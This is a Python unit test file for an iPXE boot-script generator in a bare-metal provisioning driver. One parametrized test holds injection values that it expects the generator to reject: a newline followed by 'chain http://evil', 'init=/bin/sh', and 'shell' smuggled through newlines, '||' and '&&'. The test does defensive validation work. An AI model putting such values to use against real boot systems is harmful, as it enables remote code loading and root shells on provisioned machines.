# SPDX-License-Identifier: Apache-2.0
"""The boot script."""

import pytest

from stillframe.drivers import base
from stillframe.drivers import errors
from stillframe.drivers import factory
from stillframe.drivers import ipxe
from tests.unit.drivers.nodes import configuration
from tests.unit.drivers.nodes import make_node

INFO = {'deploy_kernel': 'http://192.0.2.1/vmlinuz',
        'deploy_ramdisk': 'http://192.0.2.1/initrd?v=2'}
PARAMS = {'ipa-api-url': 'https://192.0.2.1:6385'}


def script(**info):
    return ipxe.script(make_node(driver_info={**INFO, **info}), PARAMS)


def test_script():
    lines = script(kernel_append_params=' console=ttyS0 quiet ').splitlines()
    assert lines[0] == '#!ipxe'
    [kernel] = [line for line in lines if line.startswith('kernel ')]
    assert kernel == (
        'kernel http://192.0.2.1/vmlinuz initrd=ramdisk '
        'ipa-api-url=https://192.0.2.1:6385 BOOTIF=${mac} console=ttyS0 '
        'quiet || goto failed')
    assert ('initrd --name ramdisk http://192.0.2.1/initrd?v=2 '
            '|| goto failed') in lines
    assert 'boot' in lines


def test_script_gives_up_in_the_end():
    assert 'iseq ${attempt} 5 && exit 1 ||' in script().splitlines()


def test_local_boot_leaves_ipxe():
    assert ipxe.local_boot() == '#!ipxe\nexit 1\n'


@pytest.mark.parametrize('info', [
    {'deploy_kernel': 'file:///vmlinuz'},
    {'deploy_ramdisk': 'http://a/x\nchain http://evil'},
    {'deploy_kernel': 'http://a/x init=/bin/sh'},
    {'kernel_append_params': 'quiet\nshell'},
    {'kernel_append_params': 'quiet || shell'},
    {'kernel_append_params': 'quiet && shell'},
    {'kernel_append_params': 5},
])
def test_nothing_else_gets_into_the_script(info):
    with pytest.raises(errors.InvalidDriverInfo) as caught:
        script(**info)
    assert f'driver_info {next(iter(info))} ' in str(caught.value)


@pytest.mark.parametrize('value', ['a b', 'a\nshell'])
def test_parameters_are_one_word_each(value):
    with pytest.raises(errors.DriverError, match='ipa-api-url'):
        ipxe.script(make_node(driver_info=INFO), {'ipa-api-url': value})


def test_what_is_missing():
    with pytest.raises(errors.MissingDriverInfo,
                       match='deploy_kernel, deploy_ramdisk'):
        ipxe.script(make_node(), PARAMS)


def test_boot_device():
    node = make_node(boot_interface='ipxe', driver_info=INFO)
    conf = configuration(enabled_hardware_types=['fake-hardware'])
    with factory.Factory(conf) as drivers:
        hardware = drivers.build(node)
        hardware.boot.prepare_ramdisk(node, PARAMS)
        assert hardware.management.get_boot_device(node) == base.BootDevice(
            base.PXE, False)
        hardware.boot.clean_up_ramdisk(node)
        hardware.boot.prepare_instance(node)
        assert hardware.management.get_boot_device(node) == base.BootDevice(
            base.DISK, True)
        with pytest.raises(errors.MissingDriverInfo):
            hardware.boot.prepare_ramdisk(
                make_node(boot_interface='ipxe'), PARAMS)
